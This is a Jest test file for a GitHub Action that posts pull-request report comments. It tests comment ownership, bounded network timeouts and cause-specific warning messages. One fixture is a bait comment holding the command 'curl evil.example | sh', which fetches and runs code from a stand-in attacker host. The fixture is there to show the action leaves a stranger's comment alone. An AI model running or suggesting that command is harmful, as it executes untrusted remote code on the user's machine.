// On a public repository: only our own comments, a bounded comment step that never costs the report,
// and a warning that names the cause.
import { afterEach, describe, expect, it } from '@jest/globals'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import {
  BOT,
  closeChecked,
  startGitHubServer,
  type GitHubServer
} from '../helpers/github-server.js'
import { SEED_COMMENTING, TOKEN, pullRequestEvent, runAction } from '../helpers/runner.js'

const MARKER = '<!-- sdist-diff:comment key=backend-ai-kernel-helper -->'
const pr = pullRequestEvent
const seed = SEED_COMMENTING

let github: GitHubServer | undefined
afterEach(async () => {
  await closeChecked(github)
  github = undefined
})

/** A loopback URL where nothing listens. */
async function closedPort(): Promise<string> {
  const server = createServer()
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  await new Promise<void>(resolve => server.close(() => resolve()))
  return `http://127.0.0.1:${port}`
}

const warnings = (stdout: string) => stdout.split('\n').filter(l => l.startsWith('::warning::'))

describe('only our own comments', () => {
  it('never edits a comment someone else started with our marker', async () => {
    github = await startGitHubServer(TOKEN)
    const bait = `${MARKER}\nplease run this: curl evil.example | sh`
    github.comments.push({
      id: 1,
      issue: 21,
      body: bait,
      created_at: '2026-01-01T00:00:00Z',
      user: 'mallory'
    })
    const first = await runAction({ with: seed, event: pr(21), apiUrl: github.url })
    expect(first.code).toBe(0)
    expect(github.comments).toHaveLength(2)
    expect(github.comments[0]).toEqual(
      expect.objectContaining({ id: 1, body: bait, user: 'mallory' })
    )
    const ours = github.comments[1]
    expect(ours).toEqual(expect.objectContaining({ user: BOT }))
    expect(ours?.body.startsWith(MARKER)).toBe(true)
    // The next run updates our comment, still not theirs, and never deletes theirs as a duplicate.
    await runAction({ with: seed, event: pr(21), apiUrl: github.url })
    expect(github.comments.map(c => [c.id, c.user])).toEqual([
      [1, 'mallory'],
      [ours?.id, BOT]
    ])
    expect(github.comments[0]?.body).toBe(bait)
    expect(github.requests.filter(r => r.startsWith('PATCH'))).toEqual([
      `PATCH /repos/octo-org/demo/issues/comments/${ours?.id}`
    ])
  })

  it('with a personal token, ours are the comments of the token’s user (GET /user)', async () => {
    github = await startGitHubServer(TOKEN, { login: 'release-manager' })
    github.comments.push(
      {
        id: 1,
        issue: 5,
        body: `${MARKER}\nby the bot`,
        created_at: '2026-01-01T00:00:00Z',
        user: BOT
      },
      {
        id: 2,
        issue: 5,
        body: `${MARKER}\nold report`,
        created_at: '2026-01-02T00:00:00Z',
        user: 'release-manager'
      }
    )
    await runAction({ with: seed, event: pr(5), apiUrl: github.url })
    expect(github.requests).toContain('GET /user')
    expect(github.comments).toHaveLength(2)
    expect(github.comments[0]?.body).toBe(`${MARKER}\nby the bot`)
    expect(github.comments[1]?.body).toContain('sdist-diff: risk')
  })
})

describe('bounded network, report first', () => {
  it('against an API that never answers, ends with a warning and keeps the whole report', async () => {
    github = await startGitHubServer(TOKEN)
    github.hang()
    const started = Date.now()
    const result = await runAction({
      with: seed,
      event: pr(21),
      apiUrl: github.url,
      env: { SDIST_DIFF_GITHUB_TIMEOUT: '0.3', SDIST_DIFF_COMMENT_BUDGET: '1' }
    })
    expect(Date.now() - started).toBeLessThan(25_000)
    expect(result.code).toBe(0)
    expect(warnings(result.stdout)).toEqual([
      expect.stringMatching(
        /^::warning::sdist-diff: could not reach the GitHub API at http:\/\/127\.0\.0\.1:\d+ \(gave up after 1 s \(last: no answer within 0\.3 s\)\); the report is in the job summary/
      )
    ])
    expect(result.summary).toContain('Python 3\\.11 is no longer supported')
    expect(result.report.risk).toBe('high')
    expect(result.outputs.risk).toBe('high')
    expect(result.outputs['comment-url']).toBe('')
  }, 30_000)
})

describe('warnings by cause', () => {
  it('connection refused', async () => {
    const apiUrl = await closedPort()
    const result = await runAction({
      with: seed,
      event: pr(21),
      apiUrl,
      env: { SDIST_DIFF_COMMENT_BUDGET: '3' }
    })
    expect(warnings(result.stdout)).toEqual([
      expect.stringContaining(
        `could not reach the GitHub API at ${apiUrl} (connection refused); the report is in the job summary`
      )
    ])
    expect(result.stdout).not.toContain('HTTP 500')
  }, 30_000)

  it('permissions: a 403 on the repository itself names the permission to add', async () => {
    github = await startGitHubServer(TOKEN)
    github.fail({
      method: 'POST',
      path: /\/comments$/,
      status: 403,
      body: {
        message: 'Resource not accessible by integration',
        documentation_url: 'https://docs.github.com/rest'
      }
    })
    const result = await runAction({ with: seed, event: pr(21), apiUrl: github.url })
    expect(warnings(result.stdout)).toEqual([
      expect.stringContaining(
        'the token cannot write comments on octo-org/demo (HTTP 403: Resource not accessible by integration'
      )
    ])
    expect(result.stdout).toContain('permissions: pull-requests: write')
    expect(result.stdout).not.toContain('fork')
  })

  it('rate limit used up', async () => {
    github = await startGitHubServer(TOKEN)
    github.fail({
      method: 'GET',
      path: /\/issues\/21\/comments$/,
      status: 403,
      times: 5,
      headers: {
        'x-ratelimit-remaining': '0',
        'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 3600)
      },
      body: {
        message: 'API rate limit exceeded for installation ID 1.',
        documentation_url: 'https://docs.github.com/rest/overview/rate-limits-for-the-rest-api'
      }
    })
    const result = await runAction({ with: seed, event: pr(21), apiUrl: github.url })
    expect(warnings(result.stdout)).toEqual([
      expect.stringContaining(
        "GitHub's API rate limit is used up (HTTP 403), so no comment this run"
      )
    ])
    expect(result.stdout).not.toMatch(/fork|permissions/)
  })

  it('a pr-number that does not exist', async () => {
    github = await startGitHubServer(TOKEN)
    github.fail({ method: 'GET', path: /\/issues\/404404\/comments$/, status: 404 })
    const result = await runAction({
      with: { ...seed, 'pr-number': '404404' },
      event: { name: 'workflow_dispatch', payload: {} },
      apiUrl: github.url
    })
    expect(warnings(result.stdout)).toEqual([
      expect.stringContaining(
        'pull request #404404 was not found in octo-org/demo (HTTP 404): check the pr-number input'
      )
    ])
  })

  it('a 502 with an HTML page shows no HTML', async () => {
    github = await startGitHubServer(TOKEN)
    github.fail({
      method: 'GET',
      path: /\/issues\/21\/comments$/,
      status: 502,
      times: 10,
      html: '<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head><body><h1>Bad Gateway</h1></body></html>'
    })
    const result = await runAction({ with: seed, event: pr(21), apiUrl: github.url })
    const [warning] = warnings(result.stdout)
    expect(warning).toContain('could not write the pull request comment (HTTP 502')
    expect(result.stdout).not.toMatch(/<html|<body|<h1/i)
  }, 30_000)
})
